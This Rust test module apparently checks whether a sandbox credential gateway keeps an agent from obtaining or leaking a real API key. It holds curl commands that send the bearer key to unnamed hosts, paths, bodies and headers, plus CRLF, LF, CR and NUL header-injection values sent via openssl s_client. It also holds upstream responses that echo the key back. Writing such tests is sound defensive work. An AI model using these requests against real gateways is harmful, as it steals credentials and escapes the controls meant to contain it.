//! The credential: where it should never be.
use super::http::shell;
use crate::case::{Attack, Need, Promise, Scene};
use crate::host;
use crate::hosts::{Reply, sink};
use crate::policy::Policy;
use crate::stage::Stage;
use std::io;
use std::sync::Arc;

const PREFIX: &str = "sk-escape-";
const CURL: &str = "curl -sk --max-time 6";

fn secret(s: &Stage) -> io::Result<String> {
    Ok(format!("{PREFIX}{}", s.token()?))
}

/// The scene's secret in the launcher's environment, and judges of every place on the sandbox's side.
fn guarded(s: &Stage, mut scene: Scene, secret: &str) -> Scene {
    scene.env = vec![("ESCAPE_KEY".into(), secret.to_owned())];
    scene.flags = s.trust();
    let (dirs, bytes) = ([s.ws(), s.dir.join("qila"), s.home()], secret.as_bytes().to_vec());
    scene
        .without_claims()
        .judge_output(secret)
        .judge(move |_| dirs.iter().find_map(|dir| host::holds(dir, &bytes)))
}

/// Everything inside is searched for the start of the secret while the gateway is in use.
fn hunt(s: &mut Stage) -> io::Result<Scene> {
    let key = secret(s)?;
    let name = s.name("api", s.cx.world.public)?;
    let listener = s.tls(&name, s.cx.world.public, sink())?;
    let port = listener.port();
    let hunter = format!("{} hunt {PREFIX} \"$HOME\"", s.program("proc")?);
    let argv = shell(&format!(
        "{CURL} -H \"Authorization: Bearer $ESCAPE_KEY\" https://{name}:{port}/ok/ & sleep 0.3; {hunter}; wait; {hunter}"
    ));
    let policy = Policy::new()
        .allow(&name, port, ", credential: key")
        .credential(&name);
    let alive = s.alive("https", &name, &listener)?;
    let mut scene = guarded(s, s.or_outside(&policy, argv), &key).alive(alive);
    scene.seconds = 40;
    Ok(scene.keep(listener))
}

/// The placeholder, sent to a host, a path or a method that the credential does not name: there no real value may
/// arrive. The twin's policy names it.
fn elsewhere(s: &mut Stage, request: &str, rule: &str) -> io::Result<Scene> {
    let key = secret(s)?;
    let (named, other) = (
        s.name("api", s.cx.world.public)?,
        s.name("other", s.cx.world.other)?,
    );
    let api = s.tls(&named, s.cx.world.public, sink())?;
    let listener = s.tls(&other, s.cx.world.other, sink())?;
    let to = format!("https://{other}:{}", listener.port());
    let argv = shell(&format!(
        "{CURL} {}",
        request.replace("{to}", &to).replace("{key}", "$ESCAPE_KEY")
    ));
    let denied = Policy::new()
        .allow(&named, api.port(), ", credential: key")
        .allow(&other, listener.port(), rule)
        .credential(&named);
    let allowed = Policy::new()
        .allow(&other, listener.port(), ", credential: key")
        .credential(&other);
    let mut scene = s.or_allowed(denied, allowed, argv).without_claims();
    if s.twin {
        scene.argv = shell(&format!(
            "{CURL} -H \"Authorization: Bearer $ESCAPE_KEY\" {to}/ok/"
        ));
    }
    let alive = s.alive("https", &other, &listener)?;
    scene = guarded(s, scene, &key).alive(alive);
    Ok(scene
        .judge(move |_| {
            listener
                .arrivals
                .saw(&key, "a host that the credential does not name")
        })
        .keep(api))
}

/// The placeholder, in other places of a request to the right host: only the named header may hold the real value.
fn misplaced(s: &mut Stage, request: &str) -> io::Result<Scene> {
    let key = secret(s)?;
    let name = s.name("api", s.cx.world.public)?;
    let listener = s.tls(&name, s.cx.world.public, sink())?;
    let to = format!("https://{name}:{}", listener.port());
    let argv = shell(&format!("{CURL} {}", request.replace("{to}", &to)));
    let policy = Policy::new()
        .allow(&name, listener.port(), ", credential: key")
        .credential(&name);
    let alive = s.alive("https", &name, &listener)?;
    let scene = guarded(s, s.or_outside(&policy, argv), &key).alive(alive);
    let twin = s.twin;
    Ok(scene.judge(move |_| {
        let all = listener.arrivals.all();
        let text = all
            .iter()
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .collect::<Vec<_>>()
            .join("\n");
        let wrong = |line: &&str| {
            line.contains(&key) && !line.to_ascii_lowercase().starts_with("authorization: bearer ")
        };
        let line = text.lines().find(wrong)?;
        let injected = if line.contains("X-Injected") {
            "an injected header"
        } else {
            "a place that the credential does not name"
        };
        Some(if twin {
            "arrived".to_owned()
        } else {
            format!("the real value arrived in {injected}")
        })
    }))
}

/// A header of the agent's own, smuggled behind the placeholder.
fn injection(s: &mut Stage, value: &str) -> io::Result<Scene> {
    let key = secret(s)?;
    let name = s.name("api", s.cx.world.public)?;
    let listener = s.tls(&name, s.cx.world.public, sink())?;
    let (port, token) = (listener.port(), s.token()?);
    let value = value.replace("{token}", &token);
    let script = format!(
        "printf \"GET /ok/ HTTP/1.1\\r\\nHost: {name}:{port}\\r\\nAuthorization: Bearer $ESCAPE_KEY{value}\\r\\nConnection: close\\r\\n\\r\\n\" | timeout 6 openssl s_client -quiet -connect {name}:{port} -servername {name} 2>/dev/null"
    );
    let policy = Policy::new()
        .allow(&name, port, ", credential: key")
        .credential(&name);
    let alive = s.alive("https", &name, &listener)?;
    let scene = guarded(s, s.or_outside(&policy, shell(&script)), &key).alive(alive);
    Ok(scene.judge(move |_| {
        // A gateway that reads a lone line feed as the end of a line and sends two clean headers has only understood the
        // agent; one that sends the byte on as it came has let the upstream decide.
        let joined = listener.arrivals.all().concat();
        let at = |before: &[u8]| {
            let wanted = [before, b"X-Injected: ", token.as_bytes()].concat();
            joined.windows(wanted.len()).position(|w| w == wanted)
        };
        let lone = at(b"\n").is_some_and(|i| i == 0 || joined.get(i - 1) != Some(&b'\r'));
        let raw = lone || at(b"\r").is_some() || at(b"\0").is_some() || at(b"\r\n ").is_some();
        let both = raw && joined.windows(key.len()).any(|w| w == key.as_bytes());
        both.then(|| "a raw separator went on beside the real value".into())
    }))
}

/// The secret itself holds a line break: it must be refused, not sent.
fn broken_value(s: &mut Stage) -> io::Result<Scene> {
    let key = secret(s)?;
    let name = s.name("api", s.cx.world.public)?;
    let listener = s.tls(&name, s.cx.world.public, sink())?;
    let argv = shell(&format!(
        "{CURL} -H \"Authorization: Bearer $ESCAPE_KEY\" https://{name}:{}/ok/",
        listener.port()
    ));
    let policy = Policy::new()
        .allow(&name, listener.port(), ", credential: key")
        .credential(&name);
    let mut scene = guarded(s, s.or_allowed(policy.clone(), policy, argv), &key);
    if !s.twin {
        scene.env = vec![("ESCAPE_KEY".into(), format!("{key}\r\nX-Injected: yes"))];
    }
    Ok(scene.judge(move |_| {
        listener
            .arrivals
            .saw(&key, "the host, with a header that the value made")
    }))
}

/// How an upstream gives back the credential that it received.
fn echo(s: &mut Stage, how: fn(&str) -> Vec<Vec<u8>>, curl: &str) -> io::Result<Scene> {
    let key = secret(s)?;
    let name = s.name("api", s.cx.world.public)?;
    let reply: Reply = Arc::new(move |request| {
        let text = String::from_utf8_lossy(request);
        let value = text
            .lines()
            .find_map(|l| l.split_once("earer ").map(|(_, v)| v.trim().to_owned()));
        how(&value.unwrap_or_default())
    });
    let listener = s.tls(&name, s.cx.world.public, reply)?;
    let port = listener.port();
    let argv = shell(&format!(
        "{CURL} {curl} -i -H \"Authorization: Bearer $ESCAPE_KEY\" https://{name}:{port}/ok/"
    ));
    let policy = Policy::new()
        .allow(&name, port, ", credential: key")
        .credential(&name);
    // In the twin nothing masks: the echo comes out.
    let alive = s.alive("https", &name, &listener)?;
    Ok(guarded(s, s.or_outside(&policy, argv), &key)
        .alive(alive)
        .keep(listener))
}

fn body(head: &str, body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "HTTP/1.1 200 OK\r\n{head}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    out.extend_from_slice(body);
    out
}

fn in_body(key: &str) -> Vec<Vec<u8>> {
    vec![body(
        "Content-Type: text/plain\r\n",
        format!("you sent {key} to me").as_bytes(),
    )]
}

fn in_header(key: &str) -> Vec<Vec<u8>> {
    vec![body(&format!("X-Echo: {key}\r\nSet-Cookie: k={key}\r\n"), b"ok")]
}

fn in_reason(key: &str) -> Vec<Vec<u8>> {
    vec![format!("HTTP/1.1 200 {key}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").into_bytes()]
}

fn in_trailer(key: &str) -> Vec<Vec<u8>> {
    vec![format!("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Echo: {key}\r\n\r\n").into_bytes()]
}

/// In chunks that end in the middle of the value, sent apart.
fn in_chunks(key: &str) -> Vec<Vec<u8>> {
    let mut parts =
        vec![b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n".to_vec()];
    for piece in key.as_bytes().chunks(5) {
        let mut chunk = format!("{:x}\r\n", piece.len()).into_bytes();
        chunk.extend_from_slice(piece);
        chunk.extend_from_slice(b"\r\n");
        parts.push(chunk);
    }
    parts.push(b"0\r\n\r\n".to_vec());
    parts
}

/// Without a length: the body ends with the connection, in pieces.
fn until_close(key: &str) -> Vec<Vec<u8>> {
    let (first, last) = key.split_at(key.len() / 2);
    vec![
        format!("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nx{first}").into_bytes(),
        last.as_bytes().to_vec(),
    ]
}

fn compressed(key: &str) -> Vec<Vec<u8>> {
    use std::process::{Command, Stdio};
    let text = format!("you sent {key}, yes {key}");
    let packed = Command::new("/bin/sh")
        .args(["-c", "printf %s \"$1\" | gzip -9", "sh", &text])
        .stderr(Stdio::null())
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    vec![body("Content-Encoding: gzip\r\n", &packed)]
}

const fn attack(
    name: &'static str,
    item: &'static str,
    stage: fn(&mut Stage) -> io::Result<Scene>,
) -> Attack {
    let needs = &[
        Need::World,
        Need::Tool("/usr/bin/curl"),
        Need::Tool("/usr/bin/openssl"),
        Need::Tool("/usr/bin/gzip"),
    ];
    Attack {
        name,
        promise: Promise::P2,
        item,
        needs,
        may_refuse: false,
        stage,
    }
}

const ELSEWHERE: &str = "placeholder to another host";
const ECHO: &str = "response echo";
const HEADER: &str = "header injection into the credential";

pub(super) const ATTACKS: &[Attack] = &[
    attack("secret-hunt", ELSEWHERE, hunt),
    attack("placeholder-other-host", ELSEWHERE, |s| {
        elsewhere(s, "-H \"Authorization: Bearer {key}\" {to}/ok/", "")
    }),
    attack("placeholder-other-host-intercepted", ELSEWHERE, |s| {
        elsewhere(
            s,
            "-H \"Authorization: Bearer {key}\" -H \"X-Api-Key: {key}\" -d \"{key}\" \"{to}/ok/?k={key}\"",
            ", methods: [GET, POST]",
        )
    }),
    attack("placeholder-in-body", ELSEWHERE, |s| {
        misplaced(
            s,
            "-H \"Authorization: Bearer $ESCAPE_KEY\" -d \"leak=$ESCAPE_KEY\" {to}/ok/",
        )
    }),
    attack("placeholder-in-path", ELSEWHERE, |s| {
        misplaced(
            s,
            "-H \"Authorization: Bearer $ESCAPE_KEY\" \"{to}/ok/$ESCAPE_KEY?q=$ESCAPE_KEY\"",
        )
    }),
    attack("placeholder-in-header", ELSEWHERE, |s| {
        misplaced(
            s,
            "-H \"Authorization: Bearer $ESCAPE_KEY\" -H \"X-Copy: $ESCAPE_KEY\" -A \"$ESCAPE_KEY\" {to}/ok/",
        )
    }),
    attack("credential-bare-lf", HEADER, |s| {
        injection(s, "\\nX-Injected: {token}")
    }),
    attack("credential-bare-cr", HEADER, |s| {
        injection(s, "\\rX-Injected: {token}")
    }),
    attack("credential-nul", HEADER, |s| {
        injection(s, "\\000X-Injected: {token}")
    }),
    attack("credential-folded", HEADER, |s| {
        injection(s, "\\r\\n X-Injected: {token}")
    }),
    Attack {
        may_refuse: true,
        ..attack("credential-broken-value", HEADER, broken_value)
    },
    attack("echo-body", ECHO, |s| echo(s, in_body, "")),
    attack("echo-header", ECHO, |s| echo(s, in_header, "")),
    attack("echo-reason", ECHO, |s| echo(s, in_reason, "")),
    attack("echo-trailer", ECHO, |s| echo(s, in_trailer, "--raw")),
    attack("echo-chunks", ECHO, |s| echo(s, in_chunks, "")),
    attack("echo-until-close", ECHO, |s| echo(s, until_close, "")),
    attack("echo-gzip", ECHO, |s| echo(s, compressed, "--compressed")),
];
